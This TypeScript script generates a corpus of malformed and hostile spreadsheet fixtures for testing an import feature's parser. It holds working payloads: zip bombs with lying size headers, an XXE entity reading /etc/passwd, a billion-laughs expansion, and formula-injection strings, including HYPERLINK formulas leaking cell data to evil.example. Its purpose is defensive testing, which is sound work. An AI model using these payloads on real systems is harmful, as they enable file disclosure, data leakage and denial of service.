/**
 * The bad-input corpus (issue 5): malformed and hostile spreadsheets under test/fixtures/bad/.
 *
 *   npx tsx scripts/make-bad-fixtures.ts          rewrite the small, committed fixtures
 *
 * Small fixtures are committed so a person can open them; large ones (zip bombs, a 50 MB cell,
 * 10,000 columns) are written at test time into a temp dir by the `make*` functions below.
 * Every fixture is deterministic: rows use the sandbox seed's case uuids, so the same files
 * are valid updates against `startSandbox()`.
 *
 * A tiny zip writer lives here (no dependency): hostile workbooks need entries exceljs would
 * never write (DOCTYPEs, lying sizes, corrupt deflate data, a gigabyte of inflated XML).
 */
import ExcelJS from 'exceljs';
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { constants as zlibConstants, crc32, deflateRawSync, inflateRawSync } from 'node:zlib';
import { createSeedState } from '../src/sandbox/seed.js';

export const BAD_FIXTURES_DIR = join(import.meta.dirname, '../test/fixtures/bad');

const seed = createSeedState();
/** Seed case uuids: valid update keys for the cases entity against the default sandbox. */
export const seedCaseUuids: readonly string[] = Object.keys(seed.cases);

/** `rows` valid case updates (Case ID, Case Name) on seed cases, starting at seed case `from`. */
export function caseRows(count: number, from = 0, label = 'Bad input fixture'): string[][] {
  return Array.from({ length: count }, (_, i) => [seedCaseUuids[(from + i) % seedCaseUuids.length]!, `${label} ${from + i + 1}`]);
}

export const CASE_HEADER = ['Case ID', 'Case Name'] as const;

function csvCell(cell: string): string {
  return /[",\r\n;]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
}

export function csvText(rows: ReadonlyArray<readonly string[]>, delimiter = ','): string {
  return rows.map((row) => row.map(csvCell).join(delimiter)).join('\r\n') + '\r\n';
}

// ---------------------------------------------------------------------------------------------
// Zip writing: store/deflate entries, optional lies about sizes, segment-streamed bomb data.

export interface ZipEntrySpec {
  readonly name: string;
  /** Raw (uncompressed) content. */
  readonly data: Buffer;
  /** Store instead of deflate. */
  readonly store?: boolean;
}

interface PreparedEntry {
  readonly name: Buffer;
  readonly method: 0 | 8;
  readonly crc: number;
  readonly compressed: readonly Buffer[];
  readonly compressedSize: number;
  /** What the headers claim the inflated size is (a bomb may lie). */
  readonly declaredSize: number;
}

function prepare(entry: ZipEntrySpec): PreparedEntry {
  const compressed = entry.store ? entry.data : deflateRawSync(entry.data);
  return {
    name: Buffer.from(entry.name, 'utf8'),
    method: entry.store ? 0 : 8,
    crc: crc32(entry.data),
    compressed: [compressed],
    compressedSize: compressed.length,
    declaredSize: entry.data.length,
  };
}

function localHeader(entry: PreparedEntry): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(0x0800, 6); // UTF-8 names
  header.writeUInt16LE(entry.method, 8);
  header.writeUInt16LE(0, 10);
  header.writeUInt16LE(0x5a21, 12); // 2025-01-01
  header.writeUInt32LE(entry.crc >>> 0, 14);
  header.writeUInt32LE(entry.compressedSize, 18);
  header.writeUInt32LE(entry.declaredSize, 22);
  header.writeUInt16LE(entry.name.length, 26);
  header.writeUInt16LE(0, 28);
  return Buffer.concat([header, entry.name]);
}

function centralHeader(entry: PreparedEntry, offset: number): Buffer {
  const header = Buffer.alloc(46);
  header.writeUInt32LE(0x02014b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(20, 6);
  header.writeUInt16LE(0x0800, 8);
  header.writeUInt16LE(entry.method, 10);
  header.writeUInt16LE(0, 12);
  header.writeUInt16LE(0x5a21, 14);
  header.writeUInt32LE(entry.crc >>> 0, 16);
  header.writeUInt32LE(entry.compressedSize, 20);
  header.writeUInt32LE(entry.declaredSize, 24);
  header.writeUInt16LE(entry.name.length, 28);
  header.writeUInt32LE(offset, 42);
  return Buffer.concat([header, entry.name]);
}

async function writePrepared(path: string, entries: readonly PreparedEntry[]): Promise<void> {
  const out = createWriteStream(path);
  const write = async (chunk: Buffer): Promise<void> => {
    if (!out.write(chunk)) await once(out, 'drain');
  };
  let offset = 0;
  const offsets: number[] = [];
  for (const entry of entries) {
    offsets.push(offset);
    const header = localHeader(entry);
    await write(header);
    for (const chunk of entry.compressed) await write(chunk);
    offset += header.length + entry.compressedSize;
  }
  const directory = Buffer.concat(entries.map((entry, i) => centralHeader(entry, offsets[i]!)));
  await write(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  await write(end);
  out.end();
  await once(out, 'finish');
}

export async function writeZip(path: string, entries: readonly ZipEntrySpec[]): Promise<void> {
  await writePrepared(path, entries.map(prepare));
}

/**
 * Every entry of a (small) zip, inflated: for tests that grep a written workbook's raw XML.
 * Reads the central directory, so it also works for zips with data descriptors.
 */
export async function readZipEntries(path: string): Promise<Map<string, Buffer>> {
  const zip = await readFile(path);
  let end = zip.length - 22;
  while (end >= 0 && zip.readUInt32LE(end) !== 0x06054b50) end--;
  if (end < 0) throw new Error(`${path} is not a zip`);
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  const entries = new Map<string, Buffer>();
  for (let n = 0; n < count; n++) {
    const method = zip.readUInt16LE(at + 10);
    const compressedSize = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const skip = nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const local = zip.readUInt32LE(at + 42);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(start, start + compressedSize);
    entries.set(name, method === 8 ? inflateRawSync(data) : Buffer.from(data));
    at += 46 + skip;
  }
  return entries;
}

// ---------------------------------------------------------------------------------------------
// Minimal hand-written workbooks (exceljs never writes DOCTYPEs or lies).

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export function inlineCell(ref: string, text: string): string {
  return `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
}

/** The parts around a worksheet: content types, relationships, workbook (with one sheet "Cases"). */
export function workbookParts(options: { sharedStrings?: string; workbookPr?: string } = {}): ZipEntrySpec[] {
  const shared = options.sharedStrings !== undefined;
  const text = (name: string, xml: string): ZipEntrySpec => ({ name, data: Buffer.from(xml, 'utf8') });
  return [
    text('[Content_Types].xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>${shared ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : ''}</Types>`),
    text('_rels/.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    text('xl/workbook.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}">${options.workbookPr ?? ''}<sheets><sheet name="Cases" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    text('xl/_rels/workbook.xml.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>${shared ? `<Relationship Id="rId2" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>` : ''}</Relationships>`),
    ...(shared ? [text('xl/sharedStrings.xml', options.sharedStrings ?? '')] : []),
  ];
}

export function sheetXml(rowsXml: string, doctype = ''): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${doctype}<worksheet xmlns="${MAIN_NS}"><sheetData>${rowsXml}</sheetData></worksheet>`;
}

/** Header row (Case ID, Case Name) then one row per [uuid, nameXml] with inline strings. */
function caseSheetRows(rows: ReadonlyArray<readonly [string, string]>): string {
  const header = `<row r="1">${inlineCell('A1', 'Case ID')}${inlineCell('B1', 'Case Name')}</row>`;
  return header + rows.map(([id, name], i) => `<row r="${i + 2}">${inlineCell(`A${i + 2}`, id)}${inlineCell(`B${i + 2}`, name)}</row>`).join('');
}

// ---------------------------------------------------------------------------------------------
// Zip bombs.

export interface ZipBombOptions {
  /** Inflated size of the worksheet's giant cell, bytes. */
  readonly cellBytes: number;
  /** Declare a small uncompressed size in both headers (a reader must not trust them). */
  readonly lieAboutSize: boolean;
}

/**
 * An .xlsx whose sheet1.xml inflates to `cellBytes` + a little: row 2's Case Name is one run
 * of 'A's. Built from independent deflate segments (each ends in a full flush, so segments
 * concatenate), so a 1.1 GB sheet costs ~1 MB on disk and well under a second to make.
 */
export async function makeZipBomb(path: string, options: ZipBombOptions): Promise<void> {
  const prefix = Buffer.from(sheetXml(`${caseSheetRows([])}<row r="2">${inlineCell('A2', seedCaseUuids[0]!)}<c r="B2" t="inlineStr"><is><t>`).replace('</sheetData></worksheet>', ''));
  const suffix = Buffer.from('</t></is></c></row></sheetData></worksheet>');
  const chunk = Buffer.alloc(1024 * 1024, 'A');
  const flushed = (data: Buffer) => deflateRawSync(data, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const chunkDeflated = flushed(chunk);
  const chunks = Math.ceil(options.cellBytes / chunk.length);
  const compressed: Buffer[] = [flushed(prefix)];
  let crc = crc32(prefix);
  for (let i = 0; i < chunks; i++) {
    compressed.push(chunkDeflated);
    crc = crc32(chunk, crc);
  }
  compressed.push(flushed(suffix), deflateRawSync(Buffer.alloc(0)));
  crc = crc32(suffix, crc);
  const inflatedSize = prefix.length + chunks * chunk.length + suffix.length;
  const sheet: PreparedEntry = {
    name: Buffer.from('xl/worksheets/sheet1.xml'),
    method: 8,
    crc,
    compressed,
    compressedSize: compressed.reduce((sum, b) => sum + b.length, 0),
    declaredSize: options.lieAboutSize ? 4096 : inflatedSize,
  };
  await writePrepared(path, [...workbookParts().map(prepare), sheet]);
}

// ---------------------------------------------------------------------------------------------
// Large CSVs, generated at test time.

/** A cases CSV whose row 2 Case Name is one cell of `cellBytes` characters (streamed to disk). */
export async function makeLargeCellCsv(path: string, cellBytes: number): Promise<void> {
  const out = createWriteStream(path);
  out.write(`Case ID,Case Name\r\n${seedCaseUuids[0]},"`);
  const chunk = 'x'.repeat(1024 * 1024);
  for (let written = 0; written < cellBytes; written += chunk.length) {
    if (!out.write(chunk.slice(0, Math.min(chunk.length, cellBytes - written)))) await once(out, 'drain');
  }
  out.end(`"\r\n${seedCaseUuids[1]},Ordinary row\r\n`);
  await once(out, 'finish');
}

/** A valid cases CSV with `columns` columns: Case ID, Case Name, then unknown "Extra N" columns. */
export async function makeWideCsv(path: string, columns: number): Promise<void> {
  const extra = Array.from({ length: columns - 2 }, (_, i) => `Extra ${i + 1}`);
  const header = [...CASE_HEADER, ...extra];
  const rows = caseRows(3).map((row) => [...row, ...extra.map((_, i) => String(i))]);
  await writeFile(path, csvText([header, ...rows]));
}

// ---------------------------------------------------------------------------------------------
// Small, committed fixtures.

/** 1x1 transparent PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
/** The start of a Compound File (OLE2): what Excel writes for a password-protected .xlsx (and old .xls). */
function ole2Bytes(): Buffer {
  const header = Buffer.alloc(1536);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 24);
  header.writeUInt16LE(0x3, 26);
  header.writeUInt16LE(0xfffe, 28);
  header.writeUInt16LE(9, 30);
  Buffer.from('EncryptedPackage\0EncryptionInfo', 'utf16le').copy(header, 1024);
  return header;
}

/** A workbook exceljs writes: Cases sheet, header + rows (shared strings, as Excel saves). */
async function exceljsWorkbook(rows: ReadonlyArray<ReadonlyArray<ExcelJS.CellValue>>, configure?: (wb: ExcelJS.Workbook, ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  // Fixed dates so a regenerated fixture differs only where its content does.
  workbook.created = workbook.modified = new Date(Date.UTC(2025, 0, 1));
  const sheet = workbook.addWorksheet('Cases');
  for (const row of rows) sheet.addRow([...row]);
  configure?.(workbook, sheet);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** Offset and length of one entry's compressed data in a zip we (or exceljs) wrote. */
export function entryData(zip: Buffer, name: string): { start: number; length: number } {
  for (let at = 0; at + 30 <= zip.length; ) {
    if (zip.readUInt32LE(at) !== 0x04034b50) break;
    const flags = zip.readUInt16LE(at + 6);
    const nameLength = zip.readUInt16LE(at + 26);
    const extraLength = zip.readUInt16LE(at + 28);
    const entryName = zip.toString('utf8', at + 30, at + 30 + nameLength);
    const start = at + 30 + nameLength + extraLength;
    let length = zip.readUInt32LE(at + 18);
    if ((flags & 0x08) !== 0 && length === 0) {
      // Sizes are in a data descriptor after the data: find the next header signature.
      let next = start;
      while (next + 4 <= zip.length && zip.readUInt32LE(next) !== 0x08074b50) next++;
      length = next - start;
      if (entryName === name) return { start, length };
      at = next + 16;
      continue;
    }
    if (entryName === name) return { start, length };
    at = start + length;
  }
  throw new Error(`no entry ${name}`);
}

/** Damage in the middle of deflated data: it may still inflate, to wrong bytes (only the CRC tells). */
function flipBytes(buffer: Buffer, at: number, count: number): void {
  for (let i = at; i < at + count; i++) buffer[i] = (buffer[i] ?? 0) ^ 0xff;
}

const XXE_DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const LAUGHS_DOCTYPE = '<!DOCTYPE x [<!ENTITY a "hahahahahahahahahaha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY f "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>';

/** Every spreadsheet-injection shape a legacy export might carry. */
export const INJECTION_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
] as const;

export const RTL_EMOJI_NAMES = [
  'مراجعة سنوية — أحمد',
  'סקירה שנתית של דוד',
  'Review 👩‍👩‍👧‍👦 family 🇬🇧',
  'Ünïcödé ñame with combining é and ZWJ 🧑🏽‍💼',
  'mixed עברית and English 123',
] as const;

export async function writeSmallFixtures(dir: string = BAD_FIXTURES_DIR): Promise<string[]> {
  await mkdir(dir, { recursive: true });
  const written: string[] = [];
  const put = async (name: string, data: string | Buffer): Promise<void> => {
    await writeFile(join(dir, name), data);
    written.push(name);
  };
  const header = [...CASE_HEADER];

  // Text files
  await put('empty.csv', '');
  await put('bom-only.csv', Buffer.from([0xef, 0xbb, 0xbf]));
  await put('header-only.csv', csvText([header]));
  await put('blank-rows-only.csv', `${csvText([header])},\r\n\r\n,\r\n`);
  await put('blank-header.csv', csvText([['', ''], ...caseRows(2)]));
  await put('duplicate-headers.csv', csvText([['Case ID', 'Case Name', 'Case Name'], ...caseRows(2).map((r) => [...r, 'Other name'])]));
  await put('duplicate-alias-headers.csv', csvText([['Case ID', 'Case Name', 'Title'], ...caseRows(2).map((r) => [...r, 'Other name'])]));
  // Row 4 is wider than the header: its third cell has nowhere to go.
  await put('row-wider-than-header.csv', csvText([header, ...caseRows(2), [...caseRows(1, 2)[0]!, 'stray value'], ...caseRows(2, 3)]));
  // 40 good rows, then a quote that never closes: everything after it would become one cell.
  await put('unclosed-quote.csv', `${csvText([header, ...caseRows(40)])}${seedCaseUuids[40]},"Unclosed name\r\n${csvText(caseRows(20, 41))}`);
  // Row 5: text after a closing quote ("Quoted" then text): RFC 4180 has no reading for it.
  await put('text-after-quote.csv', `${csvText([header, ...caseRows(3)])}${seedCaseUuids[3]},"Quoted" then text\r\n${csvText(caseRows(2, 4))}`);
  await put('png-as.csv', PNG);
  await put('png-as.xlsx', PNG);
  await put('pdf-as.xlsx', PDF);
  await put('html-error-page.xlsx', '<!DOCTYPE html>\n<html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1><p>You do not have access.</p></body></html>\n');
  await put('garbage-not-zip.xlsx', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)));
  await put('empty-zip.xlsx', Buffer.from([0x50, 0x4b, 0x05, 0x06, ...Array<number>(18).fill(0)]));
  await put('ole2-password-protected.xlsx', ole2Bytes());
  await put('legacy-binary.xls', ole2Bytes());
  // Windows "Unicode text": UTF-16LE, but without its BOM.
  await put('utf16le-no-bom.csv', Buffer.from(csvText([header, ...caseRows(3)]), 'utf16le'));
  // A NUL inside a cell in row 3 (early: the sniffer sees it) and past the first 8 KB (late).
  await put('nul-early.csv', csvText([header, ...caseRows(1), [seedCaseUuids[1]!, 'Name with a \0 NUL'], ...caseRows(2, 2)]));
  await put('nul-late.csv', csvText([header, ...caseRows(200), [seedCaseUuids[200]!, 'Late \0 NUL'], ...caseRows(5, 201)]));
  await put('semicolons.csv', csvText([header, ...caseRows(3)], ';'));
  await put('injection.csv', csvText([
    ['Case ID', 'Case Name', 'Case Value (£)', 'Review Date', 'Clients'],
    ...INJECTION_PAYLOADS.map((payload) => [payload, payload, payload, payload, payload]),
    // Valid rows whose text starts with a trigger: accepted, but reports must not run them.
    [seedCaseUuids[10]!, '=HYPERLINK("http://evil.example","click")', '', '', ''],
    [seedCaseUuids[11]!, "@SUM(1+1)*cmd|' /C calc'!A0", '', '', ''],
  ]));
  await put('rtl-emoji.csv', csvText([header, ...RTL_EMOJI_NAMES.map((name, i) => [seedCaseUuids[20 + i]!, name])]));
  await put('long-number-in-text.csv', csvText([header, [seedCaseUuids[30]!, '1234567890123456789']]));

  // Workbooks via exceljs
  const baseRows = [header, ...caseRows(300)];
  const base = await exceljsWorkbook(baseRows);
  await put('valid-cases.xlsx', base);
  await put('truncated.xlsx', base.subarray(0, Math.floor(base.length * 0.6)));
  const corrupt = Buffer.from(base);
  const sheetData = entryData(corrupt, 'xl/worksheets/sheet1.xml');
  flipBytes(corrupt, sheetData.start + Math.floor(sheetData.length / 2), 64);
  await put('corrupt-sheet-entry.xlsx', corrupt);
  const sharedData = entryData(base, 'xl/sharedStrings.xml');
  const corruptShared = Buffer.from(base);
  flipBytes(corruptShared, sharedData.start + Math.floor(sharedData.length / 2), 64);
  await put('corrupt-shared-strings.xlsx', corruptShared);
  await put('formulas.xlsx', await exceljsWorkbook([
    ['Case ID', 'Case Name', 'Case Value (£)'],
    [seedCaseUuids[50]!, { formula: 'HYPERLINK("http://evil.example/?x="&A2,"Click here")', result: 'Click here' }, { formula: '1+1', result: 2 }],
    [seedCaseUuids[51]!, { formula: "cmd|' /C calc'!A0", result: 'Calc name' }, 100],
    [seedCaseUuids[52]!, { formula: 'CONCAT("Review ","2026")', result: 'Review 2026' }, { formula: 'SUM(1,2)', result: 3 }],
  ]));
  // The same calendar dates in a 1900 and a 1904 workbook: both must read as 18 March 2026.
  const reviewDate = new Date(Date.UTC(2026, 2, 18, 16, 5));
  const datedRows = [['Case ID', 'Case Name', 'Review Date'], [seedCaseUuids[60]!, 'Dated review', reviewDate]];
  const dateStyle = (_wb: ExcelJS.Workbook, ws: ExcelJS.Worksheet) => {
    ws.getCell('C2').numFmt = 'dd/mm/yyyy hh:mm';
  };
  await put('dates-1900.xlsx', await exceljsWorkbook(datedRows, dateStyle));
  await put('dates-1904.xlsx', await exceljsWorkbook(datedRows, (wb, ws) => {
    wb.properties.date1904 = true;
    dateStyle(wb, ws);
  }));
  // A 19-digit reference typed into Excel keeps 15 significant digits: 1234567890123450000.
  await put('long-numbers.xlsx', await exceljsWorkbook([
    ['Case ID', 'Case Name', 'Case Value (£)'],
    [seedCaseUuids[70]!, 1234567890123450000, ''],
    [seedCaseUuids[71]!, 'Precision of value', 12345678901234567],
  ]));
  await put('contact-long-number.xlsx', await exceljsWorkbook([
    ['Name', 'Mobile', 'Client IDs'],
    ['Mobile', 4.47911123456789e15, Object.values(seed.accounts).find((a) => a.type === 'client')!.uuid],
  ]));
  await put('two-sheets.xlsx', await exceljsWorkbook(baseRows.slice(0, 4), (wb) => {
    wb.addWorksheet('Notes').addRow(['not data']);
  }));
  await put('header-only.xlsx', await exceljsWorkbook([header]));

  // Hand-written hostile workbooks
  const okRows: Array<[string, string]> = [[seedCaseUuids[80]!, 'Ordinary name']];
  await writeZip(join(dir, 'xxe-sheet.xlsx'), [
    ...workbookParts(),
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheetXml(caseSheetRows([...okRows, [seedCaseUuids[81]!, 'Leak &e; here']]), XXE_DOCTYPE)) },
  ]);
  written.push('xxe-sheet.xlsx');
  const sharedStrings = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${XXE_DOCTYPE}<sst xmlns="${MAIN_NS}" count="3" uniqueCount="3"><si><t>Case ID</t></si><si><t>Case Name</t></si><si><t>Leak &e; here</t></si></sst>`;
  await writeZip(join(dir, 'xxe-shared-strings.xlsx'), [
    ...workbookParts({ sharedStrings }),
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheetXml(`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2">${inlineCell('A2', seedCaseUuids[82]!)}<c r="B2" t="s"><v>2</v></c></row>`)) },
  ]);
  written.push('xxe-shared-strings.xlsx');
  await writeZip(join(dir, 'billion-laughs.xlsx'), [
    ...workbookParts(),
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheetXml(caseSheetRows([[seedCaseUuids[83]!, '&i;']]), LAUGHS_DOCTYPE)) },
  ]);
  written.push('billion-laughs.xlsx');
  await writeZip(join(dir, 'zip-without-workbook.xlsx'), [{ name: 'word/document.xml', data: Buffer.from('<w:document/>') }]);
  written.push('zip-without-workbook.xlsx');
  return written;
}

if (process.argv[1] !== undefined && import.meta.filename === (await import('node:fs')).realpathSync(process.argv[1])) {
  const names = await writeSmallFixtures();
  const sizes = await Promise.all(names.map(async (n) => `${n} (${(await readFile(join(BAD_FIXTURES_DIR, n))).length} B)`));
  process.stdout.write(`wrote ${names.length} fixtures to ${BAD_FIXTURES_DIR}:\n  ${sizes.join('\n  ')}\n`);
}
